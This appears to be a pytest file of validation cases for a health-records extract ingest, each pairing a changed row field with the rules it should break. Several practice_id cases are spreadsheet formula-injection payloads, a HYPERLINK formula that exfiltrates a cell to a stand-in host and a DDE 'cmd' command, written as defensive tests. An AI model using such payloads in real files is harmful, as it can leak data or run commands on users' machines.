"""Every row rule and its boundaries, as table literals: a row in, the rules it breaks out.

All cases go through the real stages (inspect, stage, validate) in one extract: each case is
one row of its table, built from a valid base row with the case's fields changed. Patients
of event cases are the valid base patient P0001 (born 1950) unless the case says otherwise.
The extract date is 2024-06-30. `[]` means the row is loaded.
"""

from __future__ import annotations

import pytest

from schemas.rules import RULES
from tests.ingest.extracts import BASE_EVENTS, BASE_PATIENT, ingest, quarantine, write_extract

L64 = "a" * 64

# (case id, table, fields changed, rules broken)
CASES: list[tuple[str, str, dict[str, str], list[str]]] = [
    # ---- patients: ids
    ("id missing", "patients", {"patient_id": ""}, ["patient_id_required"]),
    ("id with a space", "patients", {"patient_id": "P 9"}, ["patient_id_pattern"]),
    ("id with a dot", "patients", {"patient_id": "P.9"}, ["patient_id_pattern"]),
    ("id of 64 characters", "patients", {"patient_id": L64}, []),
    ("id of 65 characters", "patients", {"patient_id": L64 + "b"}, ["patient_id_pattern"]),
    ("id of every allowed kind", "patients", {"patient_id": "Az09_-"}, []),
    ("duplicated id, copy 1", "patients", {"patient_id": "DUP1"}, ["patient_id_duplicated"]),
    ("duplicated id, copy 2", "patients", {"patient_id": "DUP1"}, ["patient_id_duplicated"]),
    # ---- patients: birth
    ("year missing", "patients", {"year_of_birth": ""}, ["year_of_birth_required"]),
    ("year not a number", "patients", {"year_of_birth": "19x0"}, ["year_of_birth_integer"]),
    ("year with decimals", "patients", {"year_of_birth": "1950.0"}, ["year_of_birth_integer"]),
    ("year 1899", "patients", {"year_of_birth": "1899"}, ["year_of_birth_range"]),
    ("year 1900", "patients", {"year_of_birth": "1900", "registered_on": ""}, []),
    ("year of the extract", "patients", {"year_of_birth": "2024", "registered_on": ""}, []),
    (
        "year after the extract",
        "patients",
        {"year_of_birth": "2025", "registered_on": ""},
        ["year_of_birth_range"],
    ),
    ("month missing", "patients", {"month_of_birth": ""}, []),
    ("month 1", "patients", {"month_of_birth": "1"}, []),
    ("month 12", "patients", {"month_of_birth": "12"}, []),
    ("month 07", "patients", {"month_of_birth": "07"}, []),
    ("month 0", "patients", {"month_of_birth": "0"}, ["month_of_birth_range"]),
    ("month 13", "patients", {"month_of_birth": "13"}, ["month_of_birth_range"]),
    ("month as a word", "patients", {"month_of_birth": "July"}, ["month_of_birth_integer"]),
    # ---- patients: sex and practice
    ("sex missing", "patients", {"sex": ""}, ["sex_required"]),
    ("sex F", "patients", {"sex": "F"}, []),
    ("sex M", "patients", {"sex": "M"}, []),
    ("sex I", "patients", {"sex": "I"}, []),
    ("sex U", "patients", {"sex": "U"}, []),
    ("sex lower case", "patients", {"sex": "f"}, ["sex_allowed"]),
    ("sex X", "patients", {"sex": "X"}, ["sex_allowed"]),
    ("practice missing", "patients", {"practice_id": ""}, ["practice_id_required"]),
    # issue 9.4: a practice_id a spreadsheet would run as a formula is quarantined
    (
        "practice a formula",
        "patients",
        {"practice_id": '=HYPERLINK("http://x"&A1,"x")'},
        ["practice_id_pattern"],
    ),
    (
        "practice a command",
        "patients",
        {"practice_id": "+cmd|' /C calc'!A0"},
        ["practice_id_pattern"],
    ),
    ("practice an @ formula", "patients", {"practice_id": "@SUM(1+1)"}, ["practice_id_pattern"]),
    ("practice a sum", "patients", {"practice_id": "-2+3"}, ["practice_id_pattern"]),
    ("practice with an escape", "patients", {"practice_id": "P\x1b[2J"}, ["practice_id_pattern"]),
    ("practice of 65 characters", "patients", {"practice_id": "P" * 65}, ["practice_id_pattern"]),
    ("practice with dot, space", "patients", {"practice_id": "GP 1.a_b-c"}, []),
    ("practice of 64 characters", "patients", {"practice_id": "P" * 64}, []),
    # ---- patients: dates
    ("registered 30 February", "patients", {"registered_on": "2023-02-30"}, ["registered_on_date"]),
    ("registered yesterday", "patients", {"registered_on": "yesterday"}, ["registered_on_date"]),
    ("registered 2023-2-3", "patients", {"registered_on": "2023-2-3"}, ["registered_on_date"]),
    (
        "deregistered 31/12/2020",
        "patients",
        {"deregistered_on": "31/12/2020"},
        ["deregistered_on_date"],
    ),
    ("died 2023-13-01", "patients", {"died_on": "2023-13-01"}, ["died_on_date"]),
    (
        "registered before the birth year",
        "patients",
        {"registered_on": "1949-12-31"},
        ["registered_on_range"],
    ),
    ("registered on 1 January of the birth year", "patients", {"registered_on": "1950-01-01"}, []),
    (
        "deregistered after the extract date",
        "patients",
        {"deregistered_on": "2024-07-01"},
        ["deregistered_on_range"],
    ),
    ("died on the extract date", "patients", {"died_on": "2024-06-30"}, []),
    ("died after the extract date", "patients", {"died_on": "2024-07-01"}, ["died_on_range"]),
    # ---- patients: every rule of a row at once
    (
        "patient breaking four rules",
        "patients",
        {"patient_id": "bad id", "year_of_birth": "1850", "sex": "Q", "practice_id": ""},
        ["patient_id_pattern", "year_of_birth_range", "sex_allowed", "practice_id_required"],
    ),
    # ---- events: patient
    ("event id missing", "diagnoses", {"patient_id": ""}, ["patient_id_required"]),
    (
        "event of an unknown patient",
        "diagnoses",
        {"patient_id": "NOBODY"},
        ["event_patient_unknown"],
    ),
    (
        "event id malformed",
        "diagnoses",
        {"patient_id": "bad id"},
        [
            "patient_id_pattern",
            "event_patient_unknown",
        ],
    ),
    (
        "event of a duplicated patient",
        "prescriptions",
        {"patient_id": "DUP1"},
        ["event_patient_unknown"],
    ),
    (
        "event of a quarantined patient",
        "lab_results",
        {"patient_id": "Q1"},
        ["event_patient_unknown"],
    ),
    # ---- events: code system and code
    ("system missing", "diagnoses", {"code_system": ""}, ["code_system_required"]),
    ("system lower case", "diagnoses", {"code_system": "snomed"}, ["code_system_supported"]),
    ("system unknown", "procedures", {"code_system": "ICD-10"}, ["code_system_supported"]),
    ("code missing", "diagnoses", {"code": ""}, ["code_required"]),
    ("SNOMED good", "diagnoses", {"code_system": "SNOMED", "code": "38341003"}, []),
    (
        "SNOMED bad check digit",
        "diagnoses",
        {"code_system": "SNOMED", "code": "38341004"},
        ["code_format_snomed"],
    ),
    (
        "SNOMED 5 digits",
        "diagnoses",
        {"code_system": "SNOMED", "code": "12345"},
        ["code_format_snomed"],
    ),
    ("DMD good", "prescriptions", {"code_system": "DMD", "code": "73133000"}, []),
    (
        "DMD bad check digit",
        "prescriptions",
        {"code_system": "DMD", "code": "73133001"},
        ["code_format_dmd"],
    ),
    ("ICD10 good", "diagnoses", {"code_system": "ICD10", "code": "D51.0"}, []),
    ("ICD10 without dot", "diagnoses", {"code_system": "ICD10", "code": "D510"}, []),
    # case and surrounding spaces are normalised before the check, as codelist matching does
    ("ICD10 lower case", "diagnoses", {"code_system": "ICD10", "code": "d51.0"}, []),
    ("ICD10 padded", "diagnoses", {"code_system": "ICD10", "code": " D51.0 "}, []),
    ("ICD10 too short", "diagnoses", {"code_system": "ICD10", "code": "D5"}, ["code_format_icd10"]),
    ("ICD10CM 7 characters", "diagnoses", {"code_system": "ICD10CM", "code": "M1A.0110"}, []),
    (
        "ICD10CM 8 characters",
        "diagnoses",
        {"code_system": "ICD10CM", "code": "M1A.01101"},
        ["code_format_icd10cm"],
    ),
    ("ICD9CM V code", "diagnoses", {"code_system": "ICD9CM", "code": "V12.1"}, []),
    ("ICD9CM procedure", "procedures", {"code_system": "ICD9CM", "code": "44.31"}, []),
    (
        "ICD9CM 4 digits before the dot",
        "diagnoses",
        {"code_system": "ICD9CM", "code": "1234.5"},
        ["code_format_icd9cm"],
    ),
    ("READ2 padded", "diagnoses", {"code_system": "READ2", "code": "C10F."}, []),
    (
        "READ2 4 characters",
        "diagnoses",
        {"code_system": "READ2", "code": "C10F"},
        ["code_format_read2"],
    ),
    (
        "READ2 inner dot",
        "diagnoses",
        {"code_system": "READ2", "code": "C.10F"},
        ["code_format_read2"],
    ),
    ("ATC level 5", "prescriptions", {"code_system": "ATC", "code": "B03BA03"}, []),
    ("ATC level 1", "prescriptions", {"code_system": "ATC", "code": "A"}, []),
    (
        "ATC broken level",
        "prescriptions",
        {"code_system": "ATC", "code": "A10B0"},
        ["code_format_atc"],
    ),
    (
        "ATC no such group",
        "prescriptions",
        {"code_system": "ATC", "code": "E01"},
        ["code_format_atc"],
    ),
    ("RXNORM good", "prescriptions", {"code_system": "RXNORM", "code": "860975"}, []),
    (
        "RXNORM leading zero",
        "prescriptions",
        {"code_system": "RXNORM", "code": "086097"},
        ["code_format_rxnorm"],
    ),
    ("BNF chemical", "prescriptions", {"code_system": "BNF", "code": "0601022B0"}, []),
    (
        "BNF 5 characters",
        "prescriptions",
        {"code_system": "BNF", "code": "06010"},
        ["code_format_bnf"],
    ),
    ("NDC 4-4-2", "prescriptions", {"code_system": "NDC", "code": "0002-3227-30"}, []),
    ("NDC 11 digits", "prescriptions", {"code_system": "NDC", "code": "00002322730"}, []),
    (
        "NDC 4-5-1",
        "prescriptions",
        {"code_system": "NDC", "code": "0002-32270-3"},
        ["code_format_ndc"],
    ),
    ("LOINC good", "lab_results", {"code_system": "LOINC", "code": "14685-2"}, []),
    (
        "LOINC bad check digit",
        "lab_results",
        {"code_system": "LOINC", "code": "2132-8"},
        ["code_format_loinc"],
    ),
    (
        "LOINC without hyphen",
        "lab_results",
        {"code_system": "LOINC", "code": "21329"},
        ["code_format_loinc"],
    ),
    ("OPCS4 good", "procedures", {"code_system": "OPCS4", "code": "G28.1"}, []),
    (
        "OPCS4 one digit",
        "procedures",
        {"code_system": "OPCS4", "code": "G2"},
        ["code_format_opcs4"],
    ),
    ("CPT category II", "procedures", {"code_system": "CPT", "code": "3046F"}, []),
    ("CPT bad letter", "procedures", {"code_system": "CPT", "code": "3046X"}, ["code_format_cpt"]),
    ("ICD10PCS good", "procedures", {"code_system": "ICD10PCS", "code": "0DB64Z3"}, []),
    (
        "ICD10PCS with I",
        "procedures",
        {"code_system": "ICD10PCS", "code": "0DI64Z3"},
        ["code_format_icd10pcs"],
    ),
    ("code with a trailing space", "diagnoses", {"code": "44054006 "}, []),
    ("code with a trailing tab", "diagnoses", {"code": "44054006\t"}, ["code_format_snomed"]),
    # ---- events: dates
    ("recorded missing", "diagnoses", {"recorded_on": ""}, ["recorded_on_required"]),
    ("recorded 29 Feb 2023", "diagnoses", {"recorded_on": "2023-02-29"}, ["recorded_on_date"]),
    ("recorded 29 Feb 2024", "diagnoses", {"recorded_on": "2024-02-29"}, []),
    ("recorded yesterday", "diagnoses", {"recorded_on": "yesterday"}, ["recorded_on_date"]),
    (
        "recorded with a time",
        "diagnoses",
        {"recorded_on": "2020-01-01T10:00"},
        ["recorded_on_date"],
    ),
    ("issued missing", "prescriptions", {"issued_on": ""}, ["issued_on_required"]),
    ("issued month 13", "prescriptions", {"issued_on": "2024-13-01"}, ["issued_on_date"]),
    ("taken missing", "lab_results", {"taken_on": ""}, ["taken_on_required"]),
    ("taken 2020/01/01", "lab_results", {"taken_on": "2020/01/01"}, ["taken_on_date"]),
    ("performed missing", "procedures", {"performed_on": ""}, ["performed_on_required"]),
    ("performed 2020-1-1", "procedures", {"performed_on": "2020-1-1"}, ["performed_on_date"]),
    (
        "event the year before birth",
        "diagnoses",
        {"recorded_on": "1949-12-31"},
        ["event_before_birth"],
    ),
    ("event on 1 January of the birth year", "diagnoses", {"recorded_on": "1950-01-01"}, []),
    ("event on the extract date", "procedures", {"performed_on": "2024-06-30"}, []),
    (
        "event the day after the extract date",
        "procedures",
        {"performed_on": "2024-07-01"},
        ["event_after_extract_date"],
    ),
    # ---- prescriptions: supply and dose
    ("days supply missing", "prescriptions", {"days_supply": ""}, []),
    ("days supply 1", "prescriptions", {"days_supply": "1"}, []),
    ("days supply 365", "prescriptions", {"days_supply": "365"}, []),
    ("days supply 0", "prescriptions", {"days_supply": "0"}, ["days_supply_range"]),
    ("days supply 366", "prescriptions", {"days_supply": "366"}, ["days_supply_range"]),
    ("days supply negative", "prescriptions", {"days_supply": "-28"}, ["days_supply_range"]),
    ("days supply 28.5", "prescriptions", {"days_supply": "28.5"}, ["days_supply_integer"]),
    ("dose missing", "prescriptions", {"daily_dose_mg": ""}, []),
    ("dose 0.001", "prescriptions", {"daily_dose_mg": "0.001"}, []),
    ("dose 0", "prescriptions", {"daily_dose_mg": "0"}, ["daily_dose_mg_positive"]),
    ("dose negative", "prescriptions", {"daily_dose_mg": "-5"}, ["daily_dose_mg_positive"]),
    ("dose with a unit", "prescriptions", {"daily_dose_mg": "500mg"}, ["daily_dose_mg_number"]),
    ("dose nan", "prescriptions", {"daily_dose_mg": "nan"}, ["daily_dose_mg_number"]),
    # ---- lab results: value
    ("value missing", "lab_results", {"value": "", "unit": ""}, []),
    ("value 0", "lab_results", {"value": "0"}, []),
    ("value 1.5e2", "lab_results", {"value": "1.5e2"}, []),
    ("value negative", "lab_results", {"value": "-0.1"}, ["value_non_negative"]),
    ("value below a limit", "lab_results", {"value": "<5"}, ["value_number"]),
    ("value overflowing", "lab_results", {"value": "1e400"}, ["value_number"]),
    ("value with a comma", "lab_results", {"value": "1,5"}, ["value_number"]),
    # ---- events: every rule of a row at once
    (
        "event with nothing in it",
        "diagnoses",
        {"patient_id": "", "code_system": "", "code": "", "recorded_on": ""},
        ["patient_id_required", "code_system_required", "code_required", "recorded_on_required"],
    ),
    (
        "prescription breaking five rules",
        "prescriptions",
        {
            "patient_id": "NOBODY",
            "code": "A10BA0",
            "issued_on": "2030-01-01",
            "days_supply": "0",
            "daily_dose_mg": "x",
        },
        [
            "event_patient_unknown",
            "code_format_atc",
            "event_after_extract_date",
            "days_supply_range",
            "daily_dose_mg_number",
        ],
    ),
]

# A patient quarantined for a rule other than duplication, for "event of a quarantined patient".
EXTRA_PATIENTS = [{**BASE_PATIENT, "patient_id": "Q1", "sex": "?"}]


@pytest.fixture(scope="module")
def outcome(tmp_path_factory):
    """Run every case in one extract; map case id -> (table, rules found or [] when loaded)."""
    import duckdb

    tables: dict[str, list[dict[str, str]]] = {"patients": [dict(BASE_PATIENT), *EXTRA_PATIENTS]}
    tables.update({t: [] for t in BASE_EVENTS})
    where: dict[str, tuple[str, int]] = {}
    for i, (case, table, fields, _rules) in enumerate(CASES):
        base = (
            BASE_PATIENT | {"patient_id": f"C{i:03d}"}
            if table == "patients"
            else BASE_EVENTS[table]
        )
        tables[table].append({**base, **fields})
        where[case] = (table, len(tables[table]))
    folder = write_extract(tmp_path_factory.mktemp("rules"), tables)
    con = duckdb.connect()
    result = ingest(con, folder)
    found = quarantine(con)
    con.close()
    return result, {case: found.get(position, []) for case, position in where.items()}


@pytest.mark.parametrize(("case", "table", "fields", "rules"), CASES, ids=[c[0] for c in CASES])
def test_a_row_breaks_exactly_its_rules(outcome, case, table, fields, rules):
    _, found = outcome
    assert found[case] == rules


def test_the_extract_reconciles_and_counts_each_rule(outcome):
    result, found = outcome
    assert result.reconciled
    for table, counts in result.rule_counts.items():
        expected: dict[str, int] = {}
        for case, t, _fields, _rules in CASES:
            if t == table:
                for rule in found[case]:
                    expected[rule] = expected.get(rule, 0) + 1
        if table == "patients":
            expected["sex_allowed"] = expected.get("sex_allowed", 0) + 1  # EXTRA_PATIENTS
        assert counts == expected, table


def test_every_row_rule_has_a_failing_case():
    broken = {rule for *_, rules in CASES for rule in rules}
    row_rules = {r.name for r in RULES if r.check is not None}
    assert row_rules - broken == set()
